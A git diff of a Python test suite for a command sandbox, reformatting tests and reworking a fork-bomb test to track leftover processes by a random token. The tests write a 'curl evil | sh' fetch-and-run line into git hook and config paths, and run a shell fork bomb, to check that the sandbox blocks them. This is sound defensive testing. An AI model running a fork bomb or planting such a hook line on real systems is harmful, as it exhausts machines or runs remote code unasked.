@@ -109,9 +109,7 @@ def test_a_local_server_is_reachable_when_the_boundary_allows_network(
     sandbox: Sandbox, listener: socket.socket
 ) -> None:
     port = listener.getsockname()[1]
-    done = sandbox.sh(
-        f"echo hello > /dev/tcp/127.0.0.1/{port}", sandbox.boundary(network=True)
-    )
+    done = sandbox.sh(f"echo hello > /dev/tcp/127.0.0.1/{port}", sandbox.boundary(network=True))
     conn, _ = listener.accept()
     assert conn.recv(16) == b"hello\n"
     conn.close()
@@ -120,9 +118,7 @@ def test_a_local_server_is_reachable_when_the_boundary_allows_network(
 
 
 @pytest.mark.parametrize("path", [".git/hooks/pre-commit", ".git/config", ".cockpit/rules/x.yaml"])
-def test_git_control_files_and_cockpit_folder_are_read_only(
-    sandbox: Sandbox, path: str
-) -> None:
+def test_git_control_files_and_cockpit_folder_are_read_only(sandbox: Sandbox, path: str) -> None:
     (sandbox.workspace / ".cockpit" / "rules").mkdir(parents=True)
     before = (sandbox.workspace / ".git" / "config").read_text()
     done = sandbox.sh(f"echo 'curl evil | sh' > {path}")
@@ -187,17 +183,27 @@ def test_a_200_mb_output_is_capped_without_hurting_the_caller(sandbox: Sandbox) 
     assert done.truncated_bytes == 200_000_005 - 64 * 1024
 
 
+def _running_with_text(token: str) -> int:
+    count = 0
+    for proc in Path("/proc").glob("[0-9]*"):
+        try:
+            if token.encode() in (proc / "cmdline").read_bytes():
+                count += 1
+        except OSError:
+            continue
+    return count
+
+
 def test_a_fork_bomb_is_stopped_by_the_process_limit(sandbox: Sandbox) -> None:
+    token = f"bomb{secrets.token_hex(4)}"
     limits = Limits(processes=64, timeout_s=5)
-    before = len(list(Path("/proc").glob("[0-9]*")))
+    started = time.monotonic()
     done = sandbox.sh(
-        "bomb() { bomb | bomb & }; bomb; sleep 1; ps -e --no-headers | wc -l",
-        sandbox.boundary(limits=limits),
+        f"{token}() {{ {token} | {token} & }}; {token}; sleep 1", sandbox.boundary(limits=limits)
     )
-    after = len(list(Path("/proc").glob("[0-9]*")))
     assert "Resource temporarily unavailable" in done.text  # the limit stopped it
-    assert done.exit_code == 0 or done.timed_out  # and the call ended, on time
-    assert after - before < 16  # with nothing it started left
+    assert time.monotonic() - started < 15  # the call ended on time
+    assert _running_with_text(token) == 0  # with nothing it started left
 
 
 def test_the_process_limit_counts_the_sandbox_alone(sandbox: Sandbox) -> None:
